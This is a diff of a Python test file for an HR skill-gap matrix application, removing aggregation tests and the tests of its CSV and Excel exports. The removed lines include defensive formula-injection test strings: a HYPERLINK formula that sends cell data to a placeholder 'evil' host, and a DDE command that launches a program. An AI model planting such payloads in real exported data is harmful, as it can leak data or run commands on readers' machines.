@@ -1,157 +1,20 @@
-"""The HR skill-gap matrix: heat map, roll-ups, drill-down, readiness, exports, scope and the
-number of queries."""
+"""The HR skill-gap matrix pages: heat map, roll-ups, drill-down, readiness, filters, HR's
+scope, and the same number of queries for 500 officers as for 10."""
 
 from __future__ import annotations
 
-import csv
-import io
 import re
 
 import pytest
-from openpyxl import load_workbook
-from sqlalchemy import insert
 
-from competencies.models import CurrentLevel
-from competencies.services.gaps import CompetencyInfo, PrincipleRef, gap_class, mean_gap_class
-from competencies.services.matrix import (
-    OWN_STAFF,
-    TOTAL,
-    OfficerRef,
-    PostStats,
-    Requirement,
-    UnitRef,
-    officer_lines,
-    readiness_by_principle,
-    roll_up,
-    totals_by_competency,
-    unit_lines,
-)
-from competencies.services.matrix_export import ExportTable, write_csv, write_xlsx
-from lms.extensions import db
 from tests.competencies.gap_world import (
     add_officers,
-    build_world,
     counting_queries,
     get_ok,
     row_of,
+    set_level,
     text_of,
 )
-
-EVIL_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)")
-
-
-@pytest.fixture
-def world(db, create_unit, create_user, create_position, root_unit):
-    return build_world(create_unit, create_user, create_position, root_unit)
-
-
-def set_level(user, code: str, level: int, world) -> None:
-    db.session.execute(
-        insert(CurrentLevel),
-        [{"user_id": user.id, "competency_id": world.competencies[code].id, "level": level}],
-    )
-    db.session.commit()
-
-
-# --- pure aggregation --------------------------------------------------------------------------
-
-INTEGRITY = PrincipleRef(1, "P-INT", "Integrity", 1)
-STANDARDS = PrincipleRef(2, "P-STD", "Standardization", 7)
-
-
-def info(competency_id: int, code: str, *principles: PrincipleRef) -> CompetencyInfo:
-    return CompetencyInfo(
-        competency_id, code, code, 1, "F", 1, ("A", "T", "Ad", "E"), 2, tuple(principles)
-    )
-
-
-def unit(unit_id: int, path: str, parent_id: int | None) -> UnitRef:
-    return UnitRef(unit_id, f"U{unit_id}", f"Unit {unit_id}", "office", path, 0, parent_id)
-
-
-def test_gap_classes_say_how_far_short():
-    assert [gap_class(g) for g in (None, 0, 1, 2, 3, 7)] == [
-        "gap-none",
-        "gap-0",
-        "gap-1",
-        "gap-2",
-        "gap-3",
-        "gap-3",
-    ]
-    assert [mean_gap_class(m) for m in (None, 0, 0.1, 1.4, 1.6, 2.4, 5)] == [
-        "gap-none",
-        "gap-0",
-        "gap-1",
-        "gap-1",
-        "gap-2",
-        "gap-2",
-        "gap-3",
-    ]
-
-
-def test_officer_lines_align_cells_with_columns():
-    officers = [
-        OfficerRef(1, "A", "S1", "Unit", 10, "Clearance"),
-        OfficerRef(2, "B", "S2", "Unit", None, ""),
-    ]
-    columns = [info(100, "X"), info(101, "Y")]
-    lines = officer_lines(
-        officers, columns, {10: {100: Requirement(3, True)}}, {(1, 100): 1, (1, 101): 4}
-    )
-    first, second = lines
-    assert [(c.level, c.required, c.gap, c.css) for c in first.cells] == [
-        (1, 3, 2, "gap-2"),
-        (4, None, None, "gap-none"),
-    ]
-    assert first.cells[0].mandatory
-    assert [(c.level, c.gap) for c in second.cells] == [(0, None), (0, None)]
-
-
-def test_roll_up_sums_subtrees_and_keeps_own_staff_apart():
-    top = unit(1, "/1/", None)
-    units = [top, unit(2, "/1/2/", 1), unit(3, "/1/2/3/", 2), unit(4, "/1/4/", 1)]
-    stats = {
-        (1, 100): PostStats(1, 1, 0, 1),
-        (2, 100): PostStats(2, 1, 1, 1),
-        (3, 100): PostStats(3, 0, 6, 0),
-        (4, 100): PostStats(4, 4, 0, 4),
-        (4, 101): PostStats(1, 0, 2, 0),
-        (99, 100): PostStats(50, 0, 0, 0),  # not in the subtree: ignored
-    }
-    rolled = roll_up(stats, units, top)
-    assert rolled[TOTAL][100] == PostStats(10, 6, 7, 6)
-    assert rolled[OWN_STAFF] == {100: PostStats(1, 1, 0, 1)}
-    assert rolled[2][100] == PostStats(5, 1, 7, 1)  # unit 2 with unit 3 below it
-    assert rolled[4] == {100: PostStats(4, 4, 0, 4), 101: PostStats(1, 0, 2, 0)}
-    total = rolled[TOTAL][100]
-    assert (total.below, total.share_meeting, total.mean_gap) == (4, 0.6, 0.7)
-
-    columns = [info(100, "X"), info(101, "Y")]
-    lines = unit_lines(rolled, top, [units[1], units[3]], columns)
-    assert [(line.unit.id, line.kind) for line in lines] == [
-        (1, TOTAL),
-        (1, OWN_STAFF),
-        (2, "child"),
-        (4, "child"),
-    ]
-    assert lines[2].cells[1] == PostStats()  # nobody in unit 2 needs Y
-
-
-def test_readiness_counts_a_competency_for_each_principle_it_serves():
-    totals = totals_by_competency(
-        {(1, 100): PostStats(4, 2, 2, 3), (2, 100): PostStats(6, 6, 0, 6), (1, 101): PostStats(5)}
-    )
-    bars = readiness_by_principle(
-        totals,
-        [info(100, "X", INTEGRITY, STANDARDS), info(101, "Y", STANDARDS)],
-        [INTEGRITY, STANDARDS],
-    )
-    assert [(b.principle.code, b.stats.posts, b.stats.proficient) for b in bars] == [
-        ("P-INT", 10, 9),
-        ("P-STD", 15, 9),
-    ]
-    assert bars[0].stats.share_proficient == 0.9
-
 
 # --- the pages ---------------------------------------------------------------------------------
 
@@ -315,101 +178,6 @@ def test_hr_sees_only_its_region_everywhere(world, client, login_as):
         assert response.status_code == 404, url
     refused = client.get(f"/matrix?unit={world.south.id}").get_data(as_text=True)
     assert f"There is no unit {world.south.id} within your scope." in refused
-
-
-# --- exports -----------------------------------------------------------------------------------
-
-
-def read_csv(response) -> list[list[str]]:
-    assert response.status_code == 200
-    assert response.mimetype == "text/csv"
-    assert "attachment" in response.headers["Content-Disposition"]
-    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
-
-
-def read_xlsx(response) -> list[list[object]]:
-    assert response.status_code == 200
-    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
-    sheet = workbook.worksheets[0]
-    for row in sheet.iter_rows():
-        for cell in row:
-            assert cell.data_type != "f", cell.value  # nothing becomes a formula
-    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
-    workbook.close()
-    return rows
-
-
-@pytest.fixture
-def evil_officers(world, create_user):
-    for n, name in enumerate(EVIL_NAMES):
-        user = create_user(
-            f"evil{n}@customs.example",
-            unit=world.north_office,
-            position=world.position,
-            full_name=name,
-        )
-        set_level(user, "P-STD", 1, world)
-    return EVIL_NAMES
-
-
-def test_csv_export_has_the_rows_and_escapes_formulas(world, client, login_as, evil_officers):
-    set_level(world.officer, "P-STD", 3, world)
-    login_as(world.hr_north)
-    rows = read_csv(client.get("/matrix/export.csv?view=officers"))
-    header = rows[0]
-    assert header[:4] == ["Officer", "Service number", "Unit", "Position"]
-    assert {"P-STD level", "P-STD required", "P-STD gap"} <= set(header)
-    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
-    assert set(by_name) == {"Amina Northport", *("'" + name for name in EVIL_NAMES)}
-    amina = by_name["Amina Northport"]
-    assert (amina["P-STD level"], amina["P-STD required"], amina["P-STD gap"]) == ("3", "2", "0")
-    assert by_name["'@SUM(1)"]["P-STD gap"] == "1"
-
-    standards = world.competencies["P-STD"].id
-    below = read_csv(
-        client.get(f"/matrix/export.csv?view=cell&competency={standards}&status=below")
-    )
-    assert sorted(row[0] for row in below[1:]) == sorted("'" + name for name in EVIL_NAMES)
-
-    units = read_csv(client.get("/matrix/export.csv?view=units"))
-    assert units[1][:3] == ["Northern Region", "R-NORTH", "whole unit"]
-    rollup = read_csv(client.get("/matrix/export.csv?view=rollup"))
-    assert rollup[-1][0] == "All"
-    readiness = read_csv(client.get("/matrix/export.csv?view=readiness"))
-    assert readiness[0][:3] == ["Principle code", "Principle", "Required posts"]
-    assert client.get("/matrix/export.csv?view=nonsense").status_code == 404
-
-
-def test_xlsx_export_has_the_rows_and_escapes_formulas(world, client, login_as, evil_officers):
-    login_as(world.admin)
-    rows = read_xlsx(client.get("/matrix/export.xlsx?view=officers"))
-    names = {row[0] for row in rows[1:]}
-    assert names == {"Amina Northport", "Sipho Southborder", *("'" + n for n in EVIL_NAMES)}
-    amina = dict(zip(rows[0], next(r for r in rows if r[0] == "Amina Northport"), strict=True))
-    assert (amina["P-STD level"], amina["P-STD required"], amina["P-STD gap"]) == (0, 2, 2)
-    cell = read_xlsx(client.get("/matrix/export.xlsx?view=cell&status=below"))
-    assert "'=HYPERLINK" in "".join(str(row[0]) for row in cell)
-
-
-def test_writers_escape_every_cell_and_keep_numbers():
-    table = ExportTable(
-        "Officers",
-        ["Officer", "-Gap"],
-        [["\x01=EVIL()", -2], ["\t=1+1", 0], ["'=quoted", 1], [None, 2.5], ["Plain", 3]],
-    )
-    rows = list(csv.reader(io.StringIO(write_csv(table))))
-    assert rows == [
-        ["Officer", "'-Gap"],
-        ["\x01=EVIL()", "-2"],  # the control character hides nothing from a spreadsheet
-        ["'\t=1+1", "0"],
-        ["''=quoted", "1"],
-        ["", "2.5"],
-        ["Plain", "3"],
-    ]
-    workbook = load_workbook(io.BytesIO(write_xlsx(table)))
-    values = [[cell.value for cell in row] for row in workbook.active.iter_rows()]
-    assert values[1] == ["'=EVIL()", -2]  # dropped for XML first, then escaped
-    assert values[2][0] == "'\t=1+1" and values[4] == [None, 2.5]
 
 
 # --- done-when 4: the same number of queries for 10 officers as for 500 -------------------------
